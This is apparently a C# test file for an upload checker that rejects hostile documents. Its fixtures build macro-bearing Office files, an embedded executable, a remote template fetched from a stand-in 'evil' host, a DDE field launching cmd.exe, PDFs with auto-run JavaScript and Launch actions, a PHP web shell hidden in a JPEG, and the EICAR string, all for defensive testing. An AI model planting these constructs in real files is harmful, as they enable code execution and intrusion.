using System.IO.Compression;
using System.Text;
using EcoPark.Platform.Files;

namespace EcoPark.Platform.Tests;

/// <summary>What acts when it is opened is not taken, whatever it is called; what people really send is.</summary>
public class UploadCheckTests
{
    private const string Types = "<Types xmlns=\"http://schemas.openxmlformats.org/package/2006/content-types\"><Default Extension=\"xml\" ContentType=\"application/xml\"/>{0}</Types>";
    private static readonly byte[] Png = [0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A, 1, 2, 3, 0, 0, 0, 0, (byte)'I', (byte)'E', (byte)'N', (byte)'D', 0xAE, 0x42, 0x60, 0x82];

    public static TheoryData<string, string, byte[]> Hostile => new()
    {
        { "macro by its type", "file-macro", Office(("xl/printer.bin", "x"u8.ToArray()), ("[Content_Types].xml", Encoding.UTF8.GetBytes(string.Format(null, Types, "<Override PartName=\"/xl/printer.bin\" ContentType=\"application/vnd.ms-office.vbaProject\"/>")))) },
        { "workbook with macros enabled", "file-macro", Office(("[Content_Types].xml", Encoding.UTF8.GetBytes(string.Format(null, Types, "<Override PartName=\"/xl/workbook.xml\" ContentType=\"application/vnd.ms-excel.sheet.macroEnabled.main+xml\"/>")))) },
        { "macro by its name", "file-macro", Office(("xl/vbaProject.bin", "x"u8.ToArray())) },
        { "OLE under another name", "file-object", Office(("word/media/image1.png", [0xD0, 0xCF, 0x11, 0xE0, 0xA1, 0xB1, 0x1A, 0xE1, 0])) },
        { "a program", "file-object", Office(("word/media/a.dat", "MZ\x90"u8.ToArray())) },
        { "remote template", "file-remote", Office(("word/_rels/settings.xml.rels", "<Relationships xmlns=\"http://schemas.openxmlformats.org/package/2006/relationships\"><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/attachedTemplate\" Target=\"http://evil/x.dotm\" TargetMode=\"External\"/></Relationships>"u8.ToArray())) },
        { "DDE", "file-remote", Office(("word/document.xml", "<w:document xmlns:w=\"w\"><w:instrText> DDEAUTO c:\\windows\\system32\\cmd.exe</w:instrText></w:document>"u8.ToArray())) },
        { "EICAR within", "file-virus", Office(("word/media/a.txt", Eicar())) },
    };

    public static TheoryData<string, byte[]> Scripts => new()
    {
        { "open action", Pdf("1 0 obj <</OpenAction <</S /JavaScript /JS (app.alert(1))>>>> endobj") },
        { "launch", Pdf("1 0 obj <</A <</S /Launch /F (cmd.exe)>>>> endobj") },
        { "a name in hexadecimal", Pdf("1 0 obj <</S /#4AavaScr#69pt>> endobj") },
        { "embedded file", Pdf("1 0 obj <</Type /EmbeddedFile>> endobj") },
        { "within an object stream", ObjectStream("<</S /JavaScript /JS (x)>>") },
    };

    [Theory, MemberData(nameof(Hostile))]
    public void What_acts_when_it_is_opened_is_refused(string what, string code, byte[] content)
    {
        var problem = UploadCheck.Document("文件.docx", content).Problem;
        problem.ShouldNotBeNull(what);
        problem.Code.ShouldBe(code, what);
    }

    [Theory, MemberData(nameof(Scripts))]
    public void Scripts_of_a_PDF_are_found_also_where_they_hide(string what, byte[] content) =>
        UploadCheck.Document("文件.pdf", content).Problem.ShouldNotBeNull(what).Code.ShouldBe("file-script");

    [Fact]
    public void Pictures_end_where_they_end()
    {
        UploadCheck.Document("a.png", Png).IsOk.ShouldBeTrue();
        UploadCheck.Document("a.png", [.. Png, .. "<html>"u8]).Problem!.Code.ShouldBe("file-content");
        UploadCheck.Document("a.jpg", [0xFF, 0xD8, 0xFF, 1, 2, 0xFF, 0xD9]).IsOk.ShouldBeTrue();
        UploadCheck.Document("a.jpg", [0xFF, 0xD8, 0xFF, .. "<?php system($_GET[0]);"u8, 0xFF, 0xD9]).Problem!.Code.ShouldBe("file-content");
        UploadCheck.Document("a.jpg", [0xFF, 0xD8, 0xFF, .. Eicar()]).Problem!.Code.ShouldBe("file-virus");
    }

    [Fact]
    public void What_people_really_send_is_taken()
    {
        UploadCheck.Document("a.docx", Office(
            ("word/_rels/document.xml.rels", "<Relationships xmlns=\"r\"><Relationship Id=\"r\" Type=\"http://schemas.openxmlformats.org/officeDocument/2006/relationships/hyperlink\" Target=\"https://www.mee.gov.cn\" TargetMode=\"External\"/></Relationships>"u8.ToArray()),
            ("word/document.xml", "<w:document xmlns:w=\"w\"><w:instrText> PAGE </w:instrText></w:document>"u8.ToArray()))).Problem.ShouldBeNull();
        // By chance the bytes of a picture within may spell anything.
        UploadCheck.Document("a.pdf", Pdf("1 0 obj <</Length 9>> stream\n /JS /Launch \nendstream endobj 2 0 obj <</Type /Page /JSObject 1>> endobj")).IsOk.ShouldBeTrue();
    }

    private static byte[] Pdf(string body) => Encoding.Latin1.GetBytes($"%PDF-1.7\n{body}\n%%EOF");

    private static byte[] ObjectStream(string objects)
    {
        using var packed = new MemoryStream();
        using (var deflate = new ZLibStream(packed, CompressionLevel.Optimal, leaveOpen: true))
            deflate.Write(Encoding.Latin1.GetBytes(objects));
        return [.. Encoding.Latin1.GetBytes("%PDF-1.7\n1 0 obj <</Type /ObjStm /Filter /FlateDecode>> stream\n"), .. packed.ToArray(), .. "\nendstream endobj\n%%EOF"u8];
    }

    private static byte[] Eicar() => Encoding.ASCII.GetBytes("X5O!P%@AP[4\\PZX54(P^)7CC)7}" + "$EICAR-STANDARD-ANTIVIRUS-" + "TEST-FILE!$H+H*");

    private static byte[] Office(params (string Name, byte[] Content)[] parts)
    {
        using var file = new MemoryStream();
        using (var archive = new ZipArchive(file, ZipArchiveMode.Create, leaveOpen: true))
        {
            foreach (var (name, content) in parts.Any(part => part.Name == "[Content_Types].xml") ? parts : [.. parts, ("[Content_Types].xml", Encoding.UTF8.GetBytes(string.Format(null, Types, "")))])
            {
                using var part = archive.CreateEntry(name).Open();
                part.Write(content);
            }
        }

        return file.ToArray();
    }
}
